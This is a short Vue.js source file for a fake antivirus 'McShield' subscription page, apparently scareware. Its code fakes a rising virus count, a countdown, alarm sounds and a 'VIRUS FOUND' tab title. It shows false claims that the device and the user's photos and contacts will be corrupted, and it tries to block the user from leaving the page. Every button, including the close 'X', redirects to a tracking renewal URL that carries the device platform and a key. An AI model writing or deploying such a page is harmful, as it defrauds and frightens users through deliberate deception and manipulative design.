const { createApp, ref, onMounted } = Vue;
createApp({
  setup() {
    const left = ref(300), found = ref(0), device = navigator.userAgentData?.platform || "Windows", expired = new Date(Date.now() - 864e5).toLocaleDateString();
    const sounds = ["ding.mp3", "crit.mp3"].map((s) => new Audio("/s/" + s));
    onMounted(() => {
      const i = setInterval(() => { left.value--; if (found.value < 27) found.value++; if (left.value % 20 === 0) sounds[1].play().catch(() => {}); if (!left.value) { clearInterval(i); go(); } }, 1000);
      document.addEventListener("visibilitychange", () => { document.title = document.hidden ? "⚠️ (" + found.value + ") VIRUS FOUND" : "Security check"; });
    });
    const go = () => { removeEventListener("beforeunload", stay); location.href = "https://trk-renew.invalid/c?o=77&d=" + device + "&k=" + (new URLSearchParams(location.search).get("k") || ""); };
    const stay = (e) => { e.preventDefault(); e.returnValue = "Your PC is not protected"; };
    addEventListener("beforeunload", stay);
    return { left, found, device, expired, go };
  },
  template: `<div class="mc"><h1>Your McShield subscription expired on {{expired}}</h1><p>{{found}} viruses damaged {{device}} by 28.1%. If not removed in {{left}} seconds, SIM card, photos and contacts will be corrupted.</p><button @click="go">Renew subscription (-85%)</button><button @click="go">X</button></div>`,
}).mount("#app");
